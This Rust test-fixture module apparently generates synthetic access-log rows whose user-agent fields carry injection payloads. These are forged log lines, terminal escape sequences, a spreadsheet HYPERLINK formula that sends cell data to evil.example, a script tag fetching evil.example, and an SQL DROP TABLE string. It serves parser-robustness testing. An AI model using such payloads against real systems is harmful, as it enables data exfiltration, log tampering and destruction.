//! A visitor whose user agents try to forge log lines, control terminals, inject spreadsheet formulas and break out of
//! HTML.

use super::super::actors::role;
use super::super::buckets::Purpose;
use super::super::random::{build_text, push_host_id};
use super::super::request::outcome;
use super::super::row::col;
use super::{Stage, get};

pub(super) fn run(stage: &mut Stage<'_>) {
    let bucket = stage.bucket(Purpose::Media);
    let mut actor = role(bucket, "catalogue-test", "i-0dd44cc33bb22aa11", "198.51.100.91");
    actor.region = None;
    let first = stage.at(0.7, 16 * 3_600 + 45);
    for at in 0..48_i64 {
        let host_id = build_text(|out| push_host_id(&mut stage.rng, out));
        let agent = match at % 8 {
            0 | 1 => format!("x\" - {host_id} SigV4 ECDHE-RSA-AES128-GCM-SHA256 AuthHeader evil.example TLSv1.3 - - us-east-1"),
            2 => format!("x\" - {host_id} - - - evil.example - - - -"),
            3 => "x\"\\n79a5 halite-media [01/Mar/2026:00:00:00 +0000] 192.0.2.9 - A1B2C3D4E5F6G7H8 REST.DELETE.BUCKET - \"".to_owned(),
            4 => "\"\u{1b}]0;owned\u{7}\u{1b}[2J\u{1b}[31m".to_owned(),
            5 => "=HYPERLINK(\"https://evil.example/?\"&A1,\"x\")".to_owned(),
            6 => "\"><script>fetch(\"//evil.example\")</script>".to_owned(),
            _ => "'; DROP TABLE logs; -- \"".to_owned(),
        };
        let mut row = stage.begin(bucket, &actor, first + at * 40, &get("img/00/thumb/logo.png"));
        outcome(&mut stage.rng, &mut row, 200, None, 4_101, Some(4_101));
        row.set(col::AGENT, &agent);
        row.odd.embedded_quote = true;
        // A forged tail may look real.
        row.odd.ambiguous_quotes = at % 8 < 3;
        stage.add_row(bucket, row, true);
    }
}
